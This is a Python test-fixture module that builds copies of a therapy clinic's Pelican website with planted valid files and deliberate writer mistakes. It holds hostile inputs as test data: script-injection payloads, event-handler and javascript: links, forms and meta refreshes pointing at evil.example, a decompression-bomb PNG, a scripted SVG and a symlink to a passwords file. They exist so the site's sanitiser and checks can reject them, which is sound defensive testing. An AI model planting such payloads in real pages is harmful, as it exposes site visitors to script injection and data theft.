"""The sites the tests build: the real content, and copies of it with files planted in them.

Building the real site takes a second or two, so the suite builds each variant
once per session (fixtures in ``tests/conftest.py``) and every test reads the
one it needs:

- the real content, with the development and the production settings;
- ``PLANTED``: the real content plus valid files that show every feature and
  every trap that must stay harmless (drafts, a future article, a hostile
  title, a noindex page, an insider story, an article with a photo, the files
  ``invoke new`` writes, a language removed from the data file);
- ``MISTAKES``: the real content plus one writer's mistake per file (and a few
  edits of real files), so one failing build must list every one of them.
"""

import copy
from datetime import date
import io
import itertools
import re
import struct
import zlib

from pelicanconf import CLINIC
from plugins.clinic.review import words_fingerprint

REVIEWED = date.today().isoformat()  # never overdue
AUTHOR = "TheraRehab and Wellness clinical team"
PAYLOAD = "</script><script>alert(1)</script>"
DRAFT_WORD = "narwhalfish"
SMALL_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6300010000050001d5a3c4a30000000049454e44ae426082"
)


def png_header_only(width, height):
    """A PNG of a few dozen bytes whose header says width x height (a decompression bomb)."""
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"")


def truncated_jpeg():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (300, 200), (200, 40, 40)).save(out, "JPEG")
    return out.getvalue()[: len(out.getvalue()) // 2]


TRUNCATED_JPEG = truncated_jpeg()
ARTICLE_FIELDS = {
    "Date": "2024-07-01",
    "Category": "Treatments",
    "Author": AUTHOR,
    "Reviewer": "clinical-director",
    "Reviewed": REVIEWED,
    "Summary": "A test.",  # last: some mistakes edit the end of the metadata block
}


_articles = itertools.count(1)


def signed_off(merged, body):
    """The fields with Reviewed_text after Reviewed: the fingerprint of the text reviewed."""
    if not (merged.get("Reviewer") and merged.get("Reviewed")) or "Reviewed_text" in merged:
        return merged
    fingerprint = words_fingerprint(merged.get("Title"), merged.get("Summary"), body)
    signed = {}
    for key, value in merged.items():
        signed[key] = value
        if key == "Reviewed":
            signed["Reviewed_text"] = fingerprint
    return signed


def article(body="Some text.\n", **fields):
    """An article's source: the required fields (None removes one), then the body; each
    with a title (and so an address) of its own unless told."""
    merged = {"Title": f"A test article {next(_articles)}", **ARTICLE_FIELDS, **fields}
    merged = signed_off({key: value for key, value in merged.items() if value is not None},
                        body)
    header = "".join(f"{key}: {value}\n" for key, value in merged.items() if value is not None)
    return f"{header}\n{body}"


_pages = itertools.count(1)


def medical_page(**fields):
    number = next(_pages)
    merged = {"Title": f"Neck pain {number}", "Slug": f"neck-pain-test-{number}",
              "Medical": "yes",
              "Reviewer": "clinical-director", "Reviewed": REVIEWED, **fields}
    body = "About neck pain.\n"
    merged = signed_off({key: value for key, value in merged.items() if value is not None},
                        body)
    header = "".join(f"{key}: {value}\n" for key, value in merged.items())
    return f"{header}\n{body}"


STORY = """Title: A planted story
Slug: stories/{slug}
Patient: Planted
Authorization_signed: 2025-01-01
Authorization_expires: 2099-01-01
Authorization_scope: First name and story, on this website only.
Expected_results: Most patients with this problem feel less pain after about six weekly sessions.
Insider: yes

The planted story.
"""


def story(slug, change=None):
    text = STORY.format(slug=slug)
    return text.replace(*change) if change else text


# --- Valid files ----------------------------------------------------------------------

PLANTED = {
    # A plain page and a second article with a photo below the fold (browser tests).
    "pages/planted-plain-page.md": """Title: Planted plain page
Slug: planted-plain-page
Summary: A plain page planted by the tests.

A plain page, rendered with the page template.

## A section

Some text with a [link to the articles](../articles/).
""",
    "articles/planted-knee-article.md": f"""Title: Planted knee article
Date: 2024-07-01 09:00
Category: Treatments
Tags: massage, knee pain
Slug: planted-knee-article
Author: {AUTHOR}
Reviewer: clinical-director
Reviewed: {REVIEWED}
Summary: A second article planted by the tests, with an image below the fold.

The opening paragraph of the planted article.

## A section with a photo

![A planted test picture]({{static}}/images/planted-photo.png)

Text after the picture.
""",
    # Drafts and a future article: shown with a banner in development, nowhere in production.
    "articles/planted-draft.md": f"""Title: Planted draft
Date: 2024-07-02 09:00
Category: Treatments
Status: draft
Slug: planted-draft
Author: {AUTHOR}
Summary: A draft that search must not find.

The word {DRAFT_WORD} appears only in this draft.
""",
    "articles/unfinished.md": article("Draft text zebra.\n", Title="Unfinished draft zebra",
                                      Status="draft", Summary="Not ready."),
    "articles/future.md": article("Text of Future zebra.\n", Title="Future zebra",
                                  Date="2099-01-01", Summary="Future zebra."),
    "articles/draft.md": article("Text of Draft okapi.\n", Title="Draft okapi",
                                 Date="2024-01-01", Status="draft", Summary="Draft okapi."),
    "pages/draft-page.md": "Title: Draft page gnu\nStatus: draft\n\nText of Draft page gnu.\n",
    # A hostile title and summary: text everywhere, never markup (the Summary is Markdown:
    # written as code it is text; as raw HTML it is a mistake, HOSTILE_HTML below).
    "articles/hostile.md": article("Body text of the hostile article.\n",
                                   Title=f"{PAYLOAD} <!-- x", Slug="hostile",
                                   Summary=f"Summary `{PAYLOAD}` here."),
    # Built, but kept out of search engines and the sitemap.
    "pages/thanks.md": "Title: Thank you\nSlug: thanks\nRobots: noindex\nSummary: Thanks.\n\n"
                       "Thanks.\n",
    # A lawful story by a member of staff.
    "pages/stories/planted-story.md": story("planted-story"),
    # Everything the checks allow, in one article and one medical page.
    "articles/fine.md": article(
        "## Section\n\n### Sub-section\n\n![A knee]({static}/images/tiny.png)\n\n"
        "[Hours]({filename}/pages/contact.md) and [down](#section-two).\n\n"
        "## Section two\n\n[Study](https://example.org/).\n\n"
        "```\n# not a heading\n```\n",
        Title="Fine article", Modified="2024-07-02 10:30", Tags="knees, running"),
    "pages/medical.md": medical_page(Next_review=f"{date.today().year + 1}-06-01"),
}


def sign_off(text):
    """A source with Reviewed_text: after its Reviewed: line, as `invoke reviewed` writes it."""
    header, body = text.split("\n\n", 1)
    merged = dict(line.split(": ", 1) for line in header.splitlines())
    return "".join(f"{key}: {value}\n" for key, value in signed_off(merged, body).items()) + (
        f"\n{body}")


PLANTED["articles/planted-knee-article.md"] = sign_off(
    PLANTED["articles/planted-knee-article.md"])
PLANTED_BINARY = {"images/tiny.png": SMALL_PNG}
# Writers' editors leave these beside their files; the build ignores them.
PLANTED_EDITOR_FILES = {
    f"articles/{name}": b"\x00 not an article \xff"
    for name in (".#knee-pain.md", "._knee-pain.md", "knee-pain.md~", "#knee-pain.md#",
                 ".knee-pain.md.swp", ".knee-pain.md.swo")
}
# The language that the planted copy of the language data leaves out.
REMOVED_LANGUAGE = "pl"
# invoke new, as a writer would run it: (kind, title).
NEW_FILES = [("article", "Knee pain after running"), ("page", "Our team")]


# --- Mistakes ---------------------------------------------------------------------------
EVIL = "https://evil.example"
# Raw HTML outside the allow-list (plugins/common/allowed_html.py), in the body or the
# Summary: each is an error at its line, and none of it may reach the output.
HOSTILE_HTML = [
    ("html-element-not-allowed", "articles/iframe.md",
     article('Intro.\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n'), "<iframe"),
    ("html-element-not-allowed", "articles/script.md",
     article("Intro.\n\n<script>alert(1)</script>\n"), "<script"),
    ("html-element-not-allowed", "articles/meta-refresh.md",
     article(f'Intro.\n\n<meta http-equiv="refresh" content="0; url={EVIL}/">\n'),
     "http-equiv"),
    ("html-element-not-allowed", "articles/form.md",
     article(f'Intro.\n\n<form action="{EVIL}/collect" method="post">\n'
             '<label>Your symptoms <textarea name="s"></textarea></label>\n</form>\n'),
     "<form"),
    ("html-element-not-allowed", "articles/formaction.md",
     article(f'Intro.\n\n<p>Send <button formaction="{EVIL}/x">it</button></p>\n'),
     "formaction"),
    ("html-element-not-allowed", "articles/base.md",
     article(f'<base href="{EVIL}/">\n\nIntro.\n'), "<base"),
    ("html-element-not-allowed", "articles/svg-use.md",
     article(f'Intro.\n\n<svg><use href="{EVIL}/sprite.svg#icon"></use></svg>\n'), "<svg"),
    ("html-element-not-allowed", "articles/style-element.md",
     article("Intro.\n\n<style>main { display: none }</style>\n"), "<style"),
    ("html-element-not-allowed", "articles/object.md",
     article(f'Intro.\n\n<object data="{EVIL}/x.swf"></object>\n'), "<object"),
    ("html-attribute-not-allowed", "articles/onclick.md",
     article('Intro.\n\n<span onmouseover="steal()">Hover</span>\n'), "onmouseover"),
    ("html-attribute-not-allowed", "articles/onerror.md",
     article('Intro.\n\n<img src="{static}/images/tiny.png" alt="A dot"\n'
             '     onerror="alert(1)">\n'), "onerror"),
    ("html-attribute-not-allowed", "articles/ping.md",
     article(f'Intro.\n\nRead <a href="https://example.org/" ping="{EVIL}/t">it</a>.\n'),
     "ping="),
    ("html-attribute-not-allowed", "articles/style-attribute.md",
     article('Intro.\n\n<p style="position: fixed; inset: 0">Covered</p>\n'), "style="),
    ("html-attribute-not-allowed", "articles/aligned-table.md",
     article("Intro.\n\n| Aspect | Value |\n|:-------|------:|\n| Pain | Less |\n"),
     "|:---"),
    ("html-attribute-not-allowed", "articles/summary-onerror.md",
     article(Summary='A summary <img src="x" onerror="alert(1)">'), "Summary:"),
    ("html-element-not-allowed", "pages/summary-script.md",
     "Title: Summary script\nSlug: summary-script\nSummary: Hours <script>alert(1)</script>\n"
     "\nText.\n", "Summary:"),
    ("url-scheme-not-allowed", "articles/javascript-link.md",
     article("Intro.\n\n[Click here](javascript:alert(document.cookie)).\n"), "javascript:"),
    ("url-scheme-not-allowed", "articles/data-url.md",
     article('Intro.\n\n<a href="data:text/html;base64,PHNjcmlwdD4=">Open</a>\n'), "data:"),
    ("url-scheme-not-allowed", "articles/summary-javascript.md",
     article(Summary='A summary with <a href="javascript:alert(1)">a link</a>.'), "Summary:"),
]
# (check name, file under content/, text or bytes, text on the reported line or None)
MISTAKES = [
    ("not-utf8", "articles/latin1.md",
     article("Line one.\n\nCaf\xe9 au lait.\n").encode("latin-1"), "au lait"),
    ("empty-file", "articles/empty.md", "", None),
    ("metadata-not-closed", "articles/no-blank-line.md",
     article().replace("Summary: A test.\n\n", "Summary: A test.\nThe text starts here.\n"),
     "The text starts here"),
    ("metadata-not-closed", "articles/space-in-key.md",
     article().replace("Summary: A test.\n", "Summary: A test.\nNext review: 2025-01-01\n"),
     "Next review"),
    ("metadata-not-closed", "articles/unclosed-fence.md", "---\n" + article(), "---"),
    ("missing-metadata", "articles/no-summary.md", article(Summary=None), "Title:"),
    ("missing-metadata", "articles/no-date.md", article(Date=None), "Title:"),
    ("missing-metadata", "articles/empty-title.md", article(Title=""), "Title:"),
    ("missing-metadata", "pages/no-reviewer.md", medical_page(Reviewer=None), "Title:"),
    ("unknown-metadata-key", "articles/typo.md", article(Sumary="typo"), "Sumary:"),
    ("unknown-metadata-key", "articles/catgory.md",
     article(Category=None, Catgory="Treatments"), "Catgory:"),
    ("invalid-date", "articles/bad-date.md", article(Date="June 1, 2024"), "Date:"),
    ("invalid-date", "articles/bad-modified.md", article(Modified="2024-13-01"), "Modified:"),
    ("invalid-date", "pages/bad-review-date.md", medical_page(Reviewed="2024-02-30"),
     "Reviewed:"),
    ("unknown-category", "articles/category.md", article(Category="Treatmnts"), "Category:"),
    ("unknown-author", "articles/author.md", article(Author="Dr Nobody"), "Author:"),
    ("second-top-level-heading", "articles/two-h1.md",
     article("Intro.\n\n# Another title\n\nText.\n"), "# Another title"),
    ("heading-skips-level", "articles/skip.md",
     article("## Section\n\n#### Too deep\n\nText.\n"), "#### Too deep"),
    ("todo-left", "articles/todo.md", article("TODO: finish this.\n"), "TODO"),
    ("broken-intrasite-link", "articles/link.md",
     article("Intro.\n\nSee [the photo]({static}/images/missing.jpg).\n"), "missing.jpg"),
    ("broken-intrasite-link", "articles/broken-link.md",
     article("Read [this]({filename}does-not-exist.md).\n"), "does-not-exist.md"),
    ("missing-anchor", "articles/anchor.md",
     article("Intro.\n\nSee [hours]({filename}/pages/contact.md#no-such-heading).\n"),
     "no-such-heading"),
    ("missing-anchor", "articles/own-anchor.md",
     article("## Real heading\n\nJump [down](#not-here).\n"), "#not-here"),
    ("link-to-draft", "articles/link-to-draft.md",
     article("Intro.\n\nSee [what is coming]({filename}coming-soon.md).\n"), "coming-soon.md"),
    ("broken-link", "articles/raw-link.md",
     article("Intro.\n\nSee [our team](../no-such-page/).\n"), "no-such-page"),
    ("image-without-alt", "articles/alt.md",
     article("Intro.\n\n![]({static}/images/tiny.png)\n"), "tiny.png"),
    ("image-too-large", "images/huge.jpg", b"\xff" * 600_000, None),
    ("duplicate-output", "articles/same-slug.md",
     article(Slug="do-physical-therapists-massage"), "Slug:"),
    ("duplicate-output", "pages/same-url.md", "Title: Clash\nSave_as: index.html\n\nText.\n",
     "Save_as:"),
    *HOSTILE_HTML,
    ("third-party-resource", "articles/remote-image.md",
     article('Intro.\n\n<img src="https://cdn.example.com/knee.png" alt="A knee">\n'),
     "cdn.example.com"),
    ("plain-http-link", "articles/http.md",
     article("Intro.\n\nSee [the study](http://example.org/study).\n"), "http://example.org"),
    ("references", "articles/reference.md",
     article("Text.\n\n## References\n\n- A book without a link, 2020.\n"), "A book without"),
    ("patient-story", "pages/stories/no-signature.md",
     story("no-signature", ("Authorization_signed: 2025-01-01\n", "")), None),
    ("patient-story", "pages/stories/expired.md",
     story("expired", ("Authorization_expires: 2099-01-01", "Authorization_expires: 2020-01-01")),
     "Authorization_expires"),
    ("patient-story", "pages/stories/no-scope.md",
     story("no-scope", ("Authorization_scope: First name and story, on this website only.\n",
                        "")), None),
    ("patient-story", "pages/stories/not-typical.md",
     story("not-typical", (STORY.splitlines()[6], "Expected_results: Results not typical.")),
     "Expected_results"),
    ("patient-story", "pages/stories/no-results.md",
     story("no-results", (STORY.splitlines()[6] + "\n", "")), None),
    # Metadata: each field once, with a value; languages, templates and tag addresses that
    # exist; a text below the metadata; dates in order.
    ("repeated-field", "articles/two-titles.md",
     article(Title="First title").replace("Date:", "Title: Second title\nDate:", 1),
     "Title: Second title"),
    ("repeated-field", "articles/two-summaries.md",
     article().replace("Summary: A test.\n", "Summary: A test.\nSummary: Another one.\n"),
     "Summary: Another one"),
    ("empty-field", "articles/empty-slug.md", article(Slug=""), "Slug:"),
    ("invalid-language", "articles/bad-language.md", article(Lang="../english"), "Lang:"),
    ("invalid-language", "articles/other-language.md", article(Lang="fr-CA"), "Lang:"),
    ("unknown-template", "pages/bad-template.md",
     "Title: Bad template\nTemplate: contactt\n\nText.\n", "Template:"),
    ("tag-address", "articles/tag-bang.md", article(Tags="knees, !!!"), "Tags:"),
    ("tag-address", "articles/tag-cpp.md", article(Tags="C++"), "Tags:"),
    ("tag-address", "articles/tag-csharp.md", article(Tags="C#"), "Tags:"),
    ("no-text", "articles/no-text.md", article(body=""), "Title:"),
    ("modified-before-date", "articles/modified-early.md", article(Modified="2020-01-01"),
     "Modified:"),
    ("date-in-future", "pages/review-future.md", medical_page(Reviewed="2099-01-01"),
     "Reviewed:"),
    ("duplicate-output", "articles/upper-case-slug.md",
     article(Slug="Do-Physical-Therapists-Massage"), "Slug:"),
    # Limits: control characters, nesting Markdown would take minutes to parse.
    ("control-character", "articles/vertical-tab.md",
     article("Intro.\n\nA vertical\x0btab here.\n\nA line\u2028separator.\n"),
     "tab here"),
    ("control-character", "articles/nul-title.md", article(Title="A NUL\x00 title"), "Title:"),
    ("nesting-too-deep", "articles/deep-quote.md", article("Intro.\n\n" + ">" * 3000 + " x\n"),
     ">>>"),
    ("nesting-too-deep", "articles/deep-list.md",
     article("Intro.\n\n" + "".join(" " * (4 * i) + f"- level {i}\n" for i in range(300))),
     "- level 32"),
    # Images: readable, of a sane size, SVGs without code (refused even when no page shows
    # them; the page that shows one is named too).
    ("image-unreadable", "images/truncated.jpg", TRUNCATED_JPEG, None),
    ("image-unreadable", "articles/shows-truncated.md",
     article("Intro.\n\n![A knee]({static}/images/truncated.jpg)\n"), "truncated.jpg"),
    ("image-too-many-pixels", "images/bomb.png", png_header_only(40_000, 40_000), None),
    ("unsafe-svg", "images/script.svg",
     '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">\n'
     "<script>alert(1)</script>\n</svg>\n", "<script"),
    ("nesting-too-deep", "articles/deep-html.md",
     article("Intro.\n\n" + '<div markdown="1">\n' * 2000 + "x\n" + "</div>\n" * 2000),
     None),
]
# Valid files that mistakes point at, written with them.
MISTAKE_TARGETS = {
    "articles/coming-soon.md": article("Not ready yet.\n", Title="Coming soon",
                                       Slug="coming-soon", Status="draft"),
}
# Links planted in content/: (check, link, target), both relative to content/; a target
# outside content/ is made (a file), any other is left as it is.
MISTAKE_LINKS = [
    ("symlink-outside-content", "extra/passwords.txt", "../passwords.txt"),
    ("dangling-symlink", "images/deleted-photo.png", "images/no-such-photo.png"),
    ("symlink-loop", "pages/services/all-pages", "pages"),
]
# Files the site does not build, and links out of content/ (these are in MISTAKES too).
MISTAKES += [
    ("unbuilt-file", "articles/knee-stretches.MD", article(), None),
    ("unbuilt-file", "articles/hip-stretches.md.txt", article(), None),
    ("unbuilt-file", "back-pain.md", article(), None),
    ("link-outside-content", "articles/settings-link.md",
     article("Intro.\n\nSee [the settings]({static}/../pelicanconf.py).\n"), "{static}/../"),
    ("care-card-missing", "pages/conditions/knee-pain.md",
     "Title: Knee pain\nSlug: conditions/knee-pain\nTemplate: condition\n"
     "Call_911: you cannot stand on the leg\nCall_doctor: the knee is hot and swollen\n"
     "Summary: Knee pain.\n\nAbout knee pain.\n", "Title:"),
    ("spelling", "articles/british.md", article("Care that is personalised to you.\n"),
     "personalised"),
]
# Edits of real files: (check, file, (old, new), text on the reported line or None)
MISTAKE_EDITS = [
    ("cross-link", "pages/services/myofascial-release.md",
     ("conditions/chronic-pain", "conditions/chronic-pian"), "Conditions:"),
    ("missing-metadata", "articles/do-physical-therapists-massage.md",
     ("Reviewer: clinical-director\n", ""), None),
    ("language-entry", "data/languages.toml",
     ('reviewed = false\ndir = "rtl"', "reviewed = false"), None),
]
REMOVED_NOTICE = "pages/website-privacy.md"  # a notice every page links
# "invoke new" an article, then publish it without finishing it.
UNFINISHED_NEW_ARTICLE = "Shoulder pain"


def line_of(path, marker):
    """The number of the first line of a written file holding marker (split at \\n only)."""
    lines = path.read_text(encoding="utf-8").split("\n")
    return next(number for number, line in enumerate(lines, start=1) if marker in line)


def expected_location(path, text, marker):
    """The "file:line: " (or "file: ") a problem about this planted file starts with."""
    if marker is None:
        return f"{path}"
    # Lines as editors count them (str.splitlines also breaks at a vertical tab, U+2028).
    lines = (text.decode("latin-1") if isinstance(text, bytes) else text).split("\n")
    line = next(number for number, line in enumerate(lines, start=1) if marker in line)
    return f"{path}:{line}: "


def without_language(text, code):
    tables = text.split("[[language]]")
    kept = [t for t in tables if not re.search(rf'^code = "{code}"$', t, re.MULTILINE)]
    assert len(kept) == len(tables) - 1
    return "[[language]]".join(kept)


# --- Settings of the variants --------------------------------------------------------------
OVERDUE_DAY = "2030-01-01"
VARIANT_CLINIC = {**copy.deepcopy(CLINIC), **{
    "phone": "(555) 019-7777", "phone_e164": "+15550197777",
    "street": "7 Planted Street", "email": "planted@clinic.example",
    "hours": [["Tuesday only", "Tu", "07:30", "11:15"]],
}}
VARIANT_SETTINGS = {
    "CLINIC": VARIANT_CLINIC,
    "DISCLAIMER": {"heading": "Please read", "text": "Planted disclaimer text for this test."},
    "SECTION_1557_COORDINATOR": {"example": False, "name": "Pat Planted",
                                 "title": "Civil rights coordinator", "phone": "(555) 010-0199",
                                 "phone_e164": "+15550100199", "email": "rights@clinic.example"},
    "REVIEW_TODAY": OVERDUE_DAY,
}
MISTAKES_PROD_SETTINGS = {
    "SEVERITY": {"plain-http-link": "error", "review-overdue": "error",
                 "launch-unfinished": "error"},
    "REVIEW_TODAY": OVERDUE_DAY,
    "CNAME_DOMAIN": "www.clinic.example",
}


# --- A site ready to launch: every placeholder replaced -----------------------------------
# Real-looking values for every setting pelicanconf.py marks with placeholder() (given as
# JSON overrides, so none is a placeholder any more), and launch_ready() for the content.
LAUNCH_READY_CLINIC = {
    **{key: value for key, value in copy.deepcopy(CLINIC).items()},
    "phone": "(217) 555-0142", "phone_e164": "+12175550142", "fax": "(217) 555-0143",
    "email": "care@therarehab-wellness.com", "street": "2400 Wabash Avenue, Suite 110",
    "locality": "Springfield", "region": "IL", "postal_code": "62704",
    "map_url": "https://www.openstreetmap.org/search?query=2400%20Wabash%20Avenue",
    "hours": [["Monday to Friday", "Mo-Fr", "07:30", "18:30"], ["Saturday", "Sa", "08:00",
                                                                  "12:00"]],
    "hours_note": "Closed on Sundays.", "holidays": ["Thanksgiving Day", "Christmas Day"],
    "directions": "Across from the Wabash Avenue bus stop.", "parking": "Free parking lot.",
    "step_free_access": "Step-free entrance and an elevator.",
    "medicare": "We accept Medicare Part B.", "insurance": "We accept most plans.",
    "self_pay": "A first visit costs $150.", "referral": "No referral is needed in Illinois.",
    "first_visit_length": "60 minutes", "bring": ["A photo ID", "Your insurance card"],
}
LAUNCH_READY_SETTINGS = {
    "CLINIC": LAUNCH_READY_CLINIC,
    "TIMEZONE": "America/Chicago",
    "SECTION_1557_COORDINATOR": {"name": "Dana Whitfield", "title": "Practice manager",
                                 "tty": "711 (Illinois Relay)"},
    "ACCESSIBILITY_RESPONSE_TIME": "within two business days",
}
# What the real site's launch check must list: (file, text of the line).
PLACEHOLDER_KINDS = [
    ("pelicanconf.py", 'CLINIC["phone"] is a placeholder'),
    ("pelicanconf.py", 'CLINIC["hours"] is a placeholder'),
    ("pelicanconf.py", 'CLINIC["referral"] is a placeholder'),
    ("pelicanconf.py", "TIMEZONE is a placeholder"),
    ("pelicanconf.py", 'SECTION_1557_COORDINATOR["name"] is a placeholder'),
    ("content/data/team.toml", "the team member clinical-director (Jordan Example) who reviews"),
    ("content/pages/privacy-practices.md", "the page is still example text"),
    ("content/pages/stories/maria.md", "the page is still example text"),
    ("content/data/languages.toml", "has not been reviewed by a qualified translator"),
]


def launch_ready(content):
    """Fill in a copy of content/ as the clinic would before launch."""
    team = content / "data" / "team.toml"
    team.write_text(team.read_text(encoding="utf-8").replace("placeholder = true\n", ""),
                    encoding="utf-8")
    languages = content / "data" / "languages.toml"
    languages.write_text(languages.read_text(encoding="utf-8").replace(
        "reviewed = false", "reviewed = true"), encoding="utf-8")
    for page in content.glob("pages/**/*.md"):
        text = page.read_text(encoding="utf-8")
        kept = "".join(line for line in text.splitlines(keepends=True)
                       if not line.lower().startswith("example_text:"))
        if kept != text:
            page.write_text(kept, encoding="utf-8")
    return content
